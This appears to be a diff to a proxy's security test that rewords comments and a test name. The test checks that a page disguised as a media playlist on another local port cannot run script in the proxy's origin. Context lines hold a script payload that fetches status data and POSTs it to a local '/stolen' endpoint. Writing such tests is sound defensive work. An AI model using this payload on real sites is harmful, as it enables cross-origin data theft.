@@ -1,4 +1,4 @@
-"""A page on another port of this machine gets no script into the proxy's origin."""
+"""A page on another port of this machine cannot run scripts in the proxy's origin."""
 
 import asyncio
 import contextlib
@@ -21,7 +21,7 @@ s.ts
 #EXTINF:4,
 t.ts
 """
-# It begins like media, and is a page all the same where its type says so.
+# It begins like media, but its type makes it a page.
 _SCRIPT = """\
 G{filler}<script>
 fetch("/status.json").then(answer => answer.text()).then(text =>
@@ -40,13 +40,13 @@ fetch("{url}").then(answer => answer.text()).then(text =>
   fetch("/stolen?by=fetch", {{method: "POST", body: text}})).catch(() => 0);
 </script>
 """
-# Several round trips to loopback, and a page that is drawn.
+# Several round trips to loopback, and drawing a page.
 _SECONDS = 3.0
 
 
 @dataclass(slots=True)
 class _Thief:
-    """An origin of its own, and what arrives there."""
+    """An origin of its own, and the requests to it."""
 
     url: str = ""
     targets: list[str] = field(default_factory=list)
@@ -74,8 +74,8 @@ async def _thief() -> AsyncIterator[_Thief]:
         await runner.cleanup()
 
 
-async def test_a_relayed_page_runs_nothing_in_our_origin(tmp_path: Path) -> None:
-    """Framed, embedded, opened, run or fetched; the origin itself it does run in."""
+async def test_a_relayed_page_runs_no_script_in_our_origin(tmp_path: Path) -> None:
+    """Framed, embedded, opened, run or fetched; in the origin's own it does run."""
     async with _thief() as thief, whole(tmp_path) as one:
 
         def page_of(by: str, _: web.BaseRequest) -> web.Response:
